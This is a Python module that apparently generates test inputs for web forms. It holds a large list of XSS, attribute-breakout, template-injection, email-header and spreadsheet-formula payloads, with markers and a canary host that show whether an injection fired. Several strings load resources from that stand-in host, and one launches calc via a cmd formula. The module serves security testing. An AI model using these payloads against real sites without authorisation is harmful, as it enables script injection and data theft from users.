"""What somebody writes into a field so that a page of somebody else's runs it, or shows it as the page's own.

Whatever would run calls `stolen(…)`; what would become part of a page carries the name `stolen-mark`; what would be
fetched is at `CANARY`. So one look at a page tells whether any of it came to life.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from typing import Final

CANARY: Final = "canary.kanal.test"
MARK: Final = "stolen-mark"
_RUN = f"stolen(1)//{MARK}"

IN_HTML = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=//{CANARY}/a.js></sCrIpT>",
    f"<script>{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><{MARK} onclick=stolen(1)>'></noscript>",
    f"<img src=x onerror=stolen(1) class={MARK}>",
    f"<img src=//{CANARY}/a.gif id={MARK}>",
    f"<img/src/onerror=stolen(1)//{MARK}>",
    f"<image src=x onerror=stolen(1) {MARK}>",
    f"<svg onload=stolen(1) {MARK}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin=stolen(1) attributeName=x dur=1s {MARK}></svg>",
    f"<svg><use href=//{CANARY}/a.svg#x {MARK}></svg>",
    f"<math><{MARK} href=javascript:stolen(1)>x</{MARK}></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=stolen(1)&gt;' {MARK}>",
    f"<iframe srcdoc='<script>parent.stolen(1)</script>' {MARK}></iframe>",
    f"<iframe src=javascript:parent.stolen(1) {MARK}></iframe>",
    f"<object data=//{CANARY}/a.swf {MARK}></object>",
    f"<embed src=//{CANARY}/a.swf {MARK}>",
    f"<body onload=stolen(1) {MARK}>",
    f"<details open ontoggle=stolen(1) {MARK}>x",
    f"<video src=x onerror=stolen(1) {MARK}></video>",
    f"<audio src=//{CANARY}/a.mp3 autoplay {MARK}></audio>",
    f"<input autofocus onfocus=stolen(1) {MARK}>",
    f"<form action=//{CANARY} {MARK}><button>Kirim</button>",
    f"<button formaction=//{CANARY} {MARK}>Kirim",
    f"<a href=javascript:stolen(1) {MARK}>Buka</a>",
    f"<a href='java&#x0A;script:stolen(1)' {MARK}>Buka</a>",
    f"<a href=data:text/html,<script>{_RUN}</script> {MARK}>Buka</a>",
    f"<base href=//{CANARY}/ {MARK}>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/' {MARK}>",
    f"<link rel=stylesheet href=//{CANARY}/a.css {MARK}>",
    f"<style>@import '//{CANARY}/b.css';/*{MARK}*/</style>",
    f"<p style=background:url(//{CANARY}/c.gif) {MARK}>x</p>",
    f"<template shadowrootmode=open><{MARK}></{MARK}></template>",
    f"<{MARK}>x</{MARK}>",
    f"<b {MARK}>tebal</b>",
    f"<plaintext {MARK}>",
    f"<xmp><{MARK}></xmp><{MARK}>",
    f"<marquee onstart=stolen(1) {MARK}>x</marquee>",
    f"<div contenteditable autofocus onfocusin=stolen(1) {MARK}>x</div>",
    f"<dialog open class={MARK}>Masuk lagi</dialog>",
    f"<h1 id={MARK}>Selesai</h1>",
    f"<img\x0csrc=x\x0conerror=stolen(1)\x0c{MARK}>",
    f"<<{MARK}>>x",
    f"<a\u2028href=javascript:stolen(1)\u2029{MARK}>x</a>",
)
IN_ATTRIBUTES = (
    f'" onmouseover="stolen(1)" {MARK}="',
    f"' onmouseover='stolen(1)' {MARK}='",
    f'" autofocus onfocus="stolen(1)" {MARK}="',
    f"` onmouseover=stolen(1) {MARK}=`",
    f'"><{MARK}>',
    f"'><{MARK}>",
    f"x onmouseover=stolen(1) {MARK}",
    f"javascript:stolen(1)//{MARK}",
    f"JaVaScRiPt:stolen(1)//{MARK}",
    f"\x01javascript:stolen(1)//{MARK}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:stolen(1)//{MARK}",
    f"//{CANARY}/laporan",
    f"https://{CANARY}/laporan?{MARK}",
    f"\\\\{CANARY}\\x",
    f"/\\{CANARY}/x",
    f"x;background:url(//{CANARY}/d.gif)",
)
IN_SCRIPTS = (
    f"';{_RUN}",
    f'";{_RUN}',
    f"\\';{_RUN}",
    f"\\u003cscript\\u003e{_RUN}",
    f"${{stolen(1)}}{MARK}",
    f"`-stolen(1)-`{MARK}",
    f"\u2028stolen(1)//{MARK}",
    '{"__proto__":{"innerHTML":"<' + MARK + '>"}}',
    "</script><!--<script>" + MARK,
)
IN_TEMPLATES = (
    f"{MARK}{{{{7*7}}}}",
    f"{MARK}${{7*7}}",
    f"{MARK}{{% if 1 %}}49{{% endif %}}",
    f"{MARK}<%= 7*7 %>",
    f"{MARK}#{{7*7}}",
    f"{MARK}%(name)s {{name}} {{0.__class__}} %s %n",
    f"{{{{config}}}}{MARK}",
)
ELSEWHERE = (
    f"[Buka](javascript:stolen(1)) ![x](//{CANARY}/e.gif) {MARK}",
    f"<https://{CANARY}/{MARK}>",
    f"<!--<{MARK}>-->",
    f"Subject: {MARK}\r\nBcc: siapa@{CANARY}\r\n\r\n<script>{_RUN}</script>",
    f"=HYPERLINK(\"//{CANARY}\";\"{MARK}\")",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"+49-{MARK}",
    f"\u202e{MARK}\u202c \u200b\ufeff\ufdd0",
    f"\uff1cscript\uff1estolen(1)\uff1c/script\uff1e {MARK}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;{MARK}&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\ud7ff\U0001f4a5<{MARK}>\u0301",
)  # fmt: skip
ALL: Final = (*IN_HTML, *IN_ATTRIBUTES, *IN_SCRIPTS, *IN_TEMPLATES, *ELSEWHERE)
SHORTEST: Final = f'"><{MARK}>'  # for fields that hold no more
SHORT: Final = f"\"'><img src=x onerror=stolen(1) {MARK}>"


class Texts:
    """`of(limit)`: as many of them as a field of that length holds, those first that have not been for longest."""

    def __init__(self) -> None:
        self._coming = cycle(ALL)
        self._next = next(self._coming)

    def of(self, limit: int) -> str:
        return "\n".join(self._that_fit(limit)) or SHORT[:limit]

    def _that_fit(self, limit: int) -> Iterator[str]:
        for _ in ALL:
            limit -= len(self._next) + 1
            if limit < -1:
                return
            yield self._next
            self._next = next(self._coming)
